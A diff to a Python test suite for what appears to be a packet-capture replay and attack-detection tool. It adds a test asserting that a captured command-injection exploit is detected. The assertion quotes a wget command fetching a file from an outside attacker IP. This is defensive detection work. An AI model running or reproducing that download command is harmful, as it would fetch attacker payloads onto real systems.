@@ -91,8 +91,8 @@ async def test_http_is_known_on_any_port_and_uploads_are_bodies(
 ) -> None:
     frames = Frames()
     head = (
-        b"POST /upload HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n"
-        % len(elf)
+        b"POST /upload HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\n"
+        b"Content-Length: %d\r\n\r\n" % len(elf)
     )
     frames.conversation(7001, head, elf[:1000], elf[1000:])
     path = tmp_path / "a.pcap"
@@ -150,12 +150,27 @@ async def test_a_file_that_is_no_capture_is_a_counted_problem_and_a_missing_one_
         await replayed(tmp_path / "missing.pcap")
 
 
-@pytest.mark.parametrize("path", sorted(CAPTURES.rglob("*.pcap*")), ids=lambda path: path.name)
+@pytest.mark.parametrize(
+    "path", sorted([*CAPTURES.rglob("*.pcap"), *CAPTURES.rglob("*.pcapng")]), ids=lambda path: path.name
+)
 async def test_real_captures_are_read_to_their_end(path: Path) -> None:
-    if path.suffix == ".json":
-        pytest.skip("expected values, no capture")
     events, counts = await replayed(path)
     assert counts.frames > 0
     for event in events:
         encode_line(event)
     assert len(of(events, "session.open")) == len(of(events, "session.close")) == counts.sessions
+
+
+async def test_a_real_exploit_in_a_real_capture_is_seen() -> None:
+    events, counts = await replayed(CAPTURES / "attack" / "uqo-honeytrap_5k.pcap")
+    assert (counts.frames, counts.problems) == (375, [])
+    assert len({event.src for event in of(events, "session.open")}) > 100
+    (exploit,) = of(events, "exploit.seen")
+    assert exploit.rule == "generic-command-injection"
+    assert "wget http:/\\/176.65.140.135/efefa7" in exploit.command
+    assert {event.fingerprint_kind for event in of(events, "client.seen")} == {
+        "ja3",
+        "ja4",
+        "banner",
+        "hassh",
+    }
